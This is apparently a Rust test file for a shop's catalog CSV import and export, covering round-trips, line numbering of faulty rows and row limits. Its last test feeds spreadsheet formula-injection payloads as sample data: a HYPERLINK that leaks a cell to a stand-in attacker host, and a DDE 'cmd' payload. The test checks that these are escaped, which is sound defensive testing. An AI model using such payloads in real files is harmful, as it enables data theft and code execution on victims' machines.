//! Reading and writing catalog files, as a spreadsheet and a shop team meet them.

use super::formula::FORMULA_STARTS;
use super::*;

fn product(id: u64, code: &str) -> Product {
    Product {
        id,
        title: "Regla, \"grande\"".into(),
        description: "dos\nlíneas".into(),
        code: code.into(),
        price: 1234.5,
        status: false,
        stock: 3,
        category: "útiles".into(),
        thumbnails: vec!["/a.png".into(), "https://b.example/b.png".into()],
    }
}

#[test]
fn what_is_written_reads_back_the_same() {
    let written = write([product(1, "A"), product(2, "B")].iter());
    let text = String::from_utf8(written.clone()).unwrap();
    assert!(text.starts_with("id,title,description,code,price,status,stock,category,thumbnails\n"));
    assert!(text.contains("\"Regla, \"\"grande\"\"\""), "{text}");
    let rows = read(&written).unwrap();
    assert_eq!(rows.len(), 2);
    let expected = product(1, "A");
    assert_eq!(rows[0].product.title, expected.title);
    assert_eq!(rows[0].product.description, expected.description);
    assert_eq!(rows[0].product.price, 1234.5);
    assert!(!rows[0].product.status);
    assert_eq!(rows[0].product.thumbnails, expected.thumbnails);
    assert!(rows[0].has_status && rows[0].has_thumbnails);
}

#[test]
fn columns_in_any_order_and_optional_ones_absent() {
    let file = "code,price,stock,category,description,title\nX-1,\"12,5\",4,c,d,t\n";
    let rows = read(file.as_bytes()).unwrap();
    assert_eq!(rows[0].product.code, "X-1");
    assert_eq!(rows[0].product.price, 12.5);
    assert!(rows[0].product.status, "a new product's default");
    assert!(!rows[0].has_status && !rows[0].has_thumbnails);
}

#[test]
fn every_row_at_fault_is_named_by_line() {
    let file = "title,description,code,price,stock,category\n\
                ok,d,A,1,1,c\n\
                ,d,B,-1,x,c\n\
                dup,d,A,1,1,c\n";
    let invalid = read(file.as_bytes()).unwrap_err();
    assert_eq!(invalid.rows.len(), 2, "{invalid:?}");
    assert_eq!(invalid.rows[0].line, 3);
    let fields: Vec<_> = invalid.rows[0].fields.keys().cloned().collect();
    assert_eq!(fields, ["price", "stock", "title"]);
    assert_eq!(invalid.rows[1].line, 4);
    assert!(invalid.rows[1].fields["code"].contains("línea 2"));
    let missing = read(b"title,code\nx,y\n").unwrap_err();
    assert!(missing.error.contains("description"), "{}", missing.error);
}

/// The lines of the faulty rows of `file`.
fn fault_lines(file: &str) -> Vec<u64> {
    read(file.as_bytes())
        .unwrap_err()
        .rows
        .iter()
        .map(|fault| fault.line)
        .collect()
}

#[test]
fn rows_are_numbered_as_a_spreadsheet_shows_them_whatever_the_line_endings() {
    let rows = [
        "ok,d,A,1,1,c",
        "ok,d,B,1,1,c",
        "ok,d,C,1,1,c",
        "mal,d,D,caro,1,c",
    ];
    let header = "title,description,code,price,stock,category";
    // LF (LibreOffice), and CRLF with a byte order mark (Excel's "CSV UTF-8").
    let lf = format!("{header}\n{}\n", rows.join("\n"));
    let crlf = format!("\u{feff}{header}\r\n{}\r\n", rows.join("\r\n"));
    assert_eq!(fault_lines(&lf), [5]);
    assert_eq!(fault_lines(&crlf), [5]);
    // A blank line csv skips still counts as a line.
    assert_eq!(
        fault_lines(&format!("{header}\r\n\r\n{}\r\n", rows[3])),
        [3]
    );
    // A quoted field that spans lines: the next row starts further down, and a row is
    // numbered by the line it starts on.
    let spanning = format!(
        "{header}\r\n\"dos\r\nlíneas\",d,A,1,1,c\r\n\"tres\nlíneas\nmás\",d,B,x,1,c\r\nok,d,A,1,1,c\r\n"
    );
    let invalid = read(spanning.as_bytes()).unwrap_err();
    let lines: Vec<u64> = invalid.rows.iter().map(|f| f.line).collect();
    assert_eq!(lines, [4, 7]);
    assert!(
        invalid.rows[1].fields["code"].contains("línea 2"),
        "{invalid:?}"
    );
}

#[test]
fn a_file_of_faults_keeps_only_the_first_thousand_and_says_how_many() {
    let mut file = String::from("title,description,code,price,stock,category\n");
    for _ in 0..5000 {
        file.push_str("a\n");
    }
    let invalid = read(file.as_bytes()).unwrap_err();
    assert_eq!(invalid.rows.len(), FAULTS_LISTED);
    assert!(invalid.error.contains("5000"), "{}", invalid.error);
    assert_eq!(invalid.rows[0].line, 2);
    assert!(
        invalid.rows[0].fields["row"].contains("columnas"),
        "{invalid:?}"
    );
}

#[test]
fn a_file_of_too_many_rows_is_refused() {
    let mut file = String::from("title,description,code,price,stock,category\n");
    for n in 0..=ROWS_MAX {
        file.push_str(&format!("t,d,C{n},1,1,c\n"));
    }
    let invalid = read(file.as_bytes()).unwrap_err();
    assert!(invalid.error.contains("250.000"), "{}", invalid.error);
}

#[test]
fn formulas_are_exported_behind_a_quote_and_imported_back_the_same() {
    let texts = [
        "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Ver foto\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+54 11 5555",
        "-30 cm",
        "\tsangría",
        "\rretorno",
        "'=ya con comilla",
        "'comilla sola",
        "''=dos comillas",
        "normal",
    ];
    let products: Vec<Product> = texts
        .iter()
        .enumerate()
        .map(|(n, text)| Product {
            title: text.to_string(),
            category: text.to_string(),
            ..product(n as u64 + 1, &format!("C{n}"))
        })
        .collect();
    let written = write(products.iter());
    let text = String::from_utf8(written.clone()).unwrap();
    for line in text
        .lines()
        .skip(1)
        .filter(|l| l.starts_with(char::is_numeric))
    {
        let title = line.split(',').nth(1).unwrap().trim_start_matches('"');
        assert!(
            !title.starts_with(FORMULA_STARTS),
            "a cell a spreadsheet would run: {line}"
        );
    }
    let rows = read(&written).unwrap();
    for (row, text) in rows.iter().zip(texts) {
        assert_eq!(row.product.title, text.trim(), "title");
        assert_eq!(row.product.category, text.trim(), "category");
    }
}
